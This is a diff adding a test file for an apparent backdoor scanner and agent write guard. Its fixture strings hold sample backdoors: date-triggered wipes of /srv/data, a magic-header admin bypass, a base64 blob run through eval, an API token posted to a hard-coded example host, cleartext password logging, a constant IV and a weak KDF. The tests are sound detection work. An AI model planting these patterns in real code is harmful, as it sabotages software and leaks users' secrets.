@@ -1,0 +1,215 @@
+// Attacks on the planted-behaviour checks (src/analyzers/backdoor/): triggers and effects split
+// across names, helpers and languages, blobs and hosts kept in constants, huge and malformed files,
+// a file that does not parse, and the guard's write check that must deny at medium. Real judge, real
+// parsers, the real CLI.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { SourceFile } from '../../src/analyzers/source.ts';
+import { analyzeBackdoors } from '../../src/analyzers/backdoor/index.ts';
+import { languageOf } from '../../src/analyzers/code/languages.ts';
+import { judge, loadAnalyzers } from '../../src/engine/judge.ts';
+import { builtinPolicy, denyFrom, parsePolicy } from '../../src/engine/policy.ts';
+
+await loadAnalyzers();
+const policy = builtinPolicy();
+const BIN = join(import.meta.dirname, '..', '..', 'bin', 'warden.js');
+
+const scan = (path: string, text: string) => analyzeBackdoors(new SourceFile(path, text, languageOf(path)));
+const rules = (path: string, text: string) => scan(path, text).map((f) => `${f.ruleId}:${f.line}`);
+
+test('a time bomb whose date sits in a constant and whose wipe sits in a helper is found on the trigger line', () => {
+  const text = [
+    'import shutil',
+    'SUNSET = 1798761600',
+    'def _tidy():',
+    '    shutil.rmtree("/srv/data")',
+    'def tick(now):',
+    '    if now > SUNSET:',
+    '        _tidy()',
+    '',
+  ].join('\n');
+  assert.ok(rules('jobs.py', text).includes('backdoor.trigger-effect:6'), rules('jobs.py', text).join());
+});
+
+test('the same date guarding only a log line is not a finding', () => {
+  const text = 'SUNSET = 1798761600\ndef tick(now, log):\n    if now > SUNSET:\n        log.warning("renew")\n';
+  assert.deepEqual(rules('jobs.py', text), []);
+});
+
+test('a magic header renamed through a variable still opens the admin path (Go)', () => {
+  const text = [
+    'package auth',
+    'const probe = "probe-91c2f0aa"',
+    'func Middleware(w http.ResponseWriter, r *http.Request) {',
+    '\tv := r.Header.Get("X-Trace-Hint")',
+    '\tif v == probe {',
+    '\t\tctx := withRoles(r.Context(), []string{"admin"})',
+    '\t\tnext.ServeHTTP(w, r.WithContext(ctx))',
+    '\t}',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('auth.go', text).includes('backdoor.trigger-effect:5'), rules('auth.go', text).join());
+});
+
+test('a counter threshold kept in a constant and reached by increments lifts a lockout (Java)', () => {
+  const text = [
+    'class Guard {',
+    '  private static final long CEILING = 50_000L;',
+    '  private final AtomicLong seen = new AtomicLong();',
+    '  boolean isBlocked(String user) {',
+    '    seen.incrementAndGet();',
+    '    if (seen.get() > CEILING) {',
+    '      return false;',
+    '    }',
+    '    return store.locked(user);',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('Guard.java', text).includes('backdoor.trigger-effect:6'), rules('Guard.java', text).join());
+});
+
+test('compare(sig, sig) written with byte views and spaces is still a self comparison (Rust)', () => {
+  const text = 'fn ok(sig: &[u8], key: &[u8]) -> bool {\n    constant_time_eq( sig.as_ref() ,  sig )\n}\n';
+  assert.ok(rules('mac.rs', text).includes('backdoor.self-compare:2'), rules('mac.rs', text).join());
+});
+
+test('a base64 blob split from its eval by two renames is still run code, and the blob line is reported', () => {
+  const text = [
+    "const BLOB = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp';",
+    "const a = Buffer.from(BLOB, 'base64').toString();",
+    'const b = a;',
+    'const c = b.trim();',
+    'eval(c);',
+    '',
+  ].join('\n');
+  const got = rules('x.js', text);
+  assert.ok(
+    got.some((r) => /^backdoor\.decode(?:d-load|-exec):5$/.test(r)) && got.includes('backdoor.decoded-load:1'),
+    got.join(),
+  );
+});
+
+test('decoded data only parsed as JSON is not run code', () => {
+  const text =
+    "const cfg = JSON.parse(Buffer.from(process.env.CFG_B64, 'base64').toString());\nmodule.exports = cfg;\n";
+  assert.deepEqual(
+    rules('x.js', text).filter((r) => r.startsWith('backdoor.decoded-load')),
+    [],
+  );
+});
+
+test('a secret passed through a helper parameter and a container reaches a hard-coded host (Python)', () => {
+  const text = [
+    'import requests',
+    'SINK = "https://stats.cdn-metrics.example.net/v1"',
+    'def ship(payload):',
+    '    requests.post(SINK, json=payload, timeout=3)',
+    'def report(api_token):',
+    '    body = {"t": api_token}',
+    '    ship(body)',
+    '',
+  ].join('\n');
+  const got = rules('r.py', text);
+  assert.ok(got.includes('backdoor.secret-to-host:4'), got.join());
+});
+
+test('the same data sent to the configured endpoint is not exfiltration', () => {
+  const text = [
+    'import requests',
+    'def ship(settings, payload):',
+    '    requests.post(settings.telemetry_url, json={"version": settings.version}, timeout=3)',
+    '',
+  ].join('\n');
+  assert.deepEqual(rules('r.py', text), []);
+});
+
+test('a masked secret in a log is not a leak; the clear one is', () => {
+  const clear = 'def f(log, user, password):\n    log.info("login %s %s", user, password)\n';
+  const masked = 'def f(log, user, password):\n    log.info("login %s %s", user, mask(password))\n';
+  assert.ok(rules('a.py', clear).includes('backdoor.secret-to-log:2'));
+  assert.deepEqual(rules('a.py', masked), []);
+});
+
+test('a constant IV is found even when the constant is declared in another statement (C#)', () => {
+  const text =
+    'class V {\n  static readonly byte[] Nonce = new byte[12];\n  byte[] Seal(AesGcm g) { g.Encrypt(Nonce, p, c, t); return c; }\n}\n';
+  assert.ok(rules('V.cs', text).includes('backdoor.constant-iv:2'), rules('V.cs', text).join());
+});
+
+test('a nonce buffer filled from the CSPRNG is not a constant IV (Go)', () => {
+  const text =
+    'package x\nfunc seal(g cipher.AEAD, p []byte) []byte {\n\tnonce := make([]byte, 12)\n\trand.Read(nonce)\n\treturn g.Seal(nil, nonce, p, nil)\n}\n';
+  assert.deepEqual(rules('x.go', text), []);
+});
+
+test('a file that does not parse is still read by the line checks and never throws', () => {
+  const text =
+    'if (now > 1798761600000 {{{ rmSync("/srv", {recursive: true})\nconst iv = Buffer.alloc(16, 0);\n' +
+    "const c = createCipheriv('aes-256-cbc', key, iv);\n";
+  assert.doesNotThrow(() => scan('broken.ts', text));
+  assert.ok(rules('broken.ts', text).includes('backdoor.constant-iv:2'));
+});
+
+test('a huge generated file (3 MB of guards) is judged within a generous time limit', () => {
+  const unit = 'if (x === "abc") { y = 1; }\n';
+  const text =
+    unit.repeat(Math.ceil((3 * 1024 * 1024) / unit.length)) + 'if (now > 1798761600000) { rmSync("/srv"); }\n';
+  const t0 = performance.now();
+  scan('big.js', text);
+  assert.ok(performance.now() - t0 < 20_000, `took ${performance.now() - t0} ms`);
+});
+
+test('binary-looking and malformed input (NUL bytes, lone surrogates, a 100 kB line) does not throw', () => {
+  const text = `\u0000\u0000if (a === "\ud800") {}\n${'x'.repeat(100_000)}\nconst nonce = "000000000000";\n`;
+  assert.doesNotThrow(() => scan('odd.ts', text));
+});
+
+test('the guard denies a write that plants a medium-severity backdoor finding (policy findings.backdoor)', () => {
+  const ws = mkdtempSync(join(tmpdir(), 'warden-bd-'));
+  const content =
+    'def hash_password(password, salt):\n    return hashlib.pbkdf2_hmac("sha256", password, salt, 1000)\n';
+  const v = judge(
+    { tool: 'write', path: 'kdf.py', content: content.replace('1000', '1000') },
+    { policy, cwd: ws, workspace: ws, home: '/home/dev' },
+  );
+  // (weak-kdf is high; the log leak below is medium and must deny too)
+  assert.equal(v.decision, 'deny', v.reasons.join('\n'));
+  const leak = judge(
+    {
+      tool: 'write',
+      path: 'login.py',
+      content: 'def failed(log, email, password):\n    log.warning("failed %s %s", email, password)\n',
+    },
+    { policy, cwd: ws, workspace: ws, home: '/home/dev' },
+  );
+  assert.ok(leak.findings.some((f) => f.ruleId === 'backdoor.secret-to-log' && f.severity === 'medium'));
+  assert.equal(leak.decision, 'deny', leak.reasons.join('\n'));
+});
+
+test('findings.backdoor is policy: set off it falls back to findings.deny, and it never loosens a stricter deny', () => {
+  assert.equal(denyFrom(policy, 'backdoor'), 'medium');
+  assert.equal(denyFrom(policy, 'vulnerability'), 'high');
+  const off = parsePolicy('version: 1\nfindings:\n  backdoor: "off"\n', 'test', policy);
+  assert.equal(denyFrom(off, 'backdoor'), 'high');
+  const strict = parsePolicy('version: 1\nfindings:\n  deny: low\n', 'test', policy);
+  assert.equal(denyFrom(strict, 'backdoor'), 'low');
+  assert.throws(() => parsePolicy('version: 1\nfindings:\n  backdoor: sometimes\n', 'test', policy));
+});
+
+test('warden scan (real CLI) reports a planted time bomb in a Ruby file and exits non-zero', () => {
+  const ws = mkdtempSync(join(tmpdir(), 'warden-bd-cli-'));
+  writeFileSync(
+    join(ws, 'sweep.rb'),
+    'def sweep(now)\n  if now > Time.utc(2027, 3, 1)\n    FileUtils.rm_rf("/srv/data")\n  end\nend\n',
+  );
+  const r = spawnSync(process.execPath, [BIN, 'scan', ws, '--format', 'json'], { encoding: 'utf8', timeout: 60_000 });
+  assert.notEqual(r.status, 0, r.stderr);
+  // (the line shape trigger-guard reports it when it sees it; trigger-effect otherwise: one finding per line)
+  assert.match(r.stdout, /backdoor\.trigger-(?:effect|guard)/);
+});
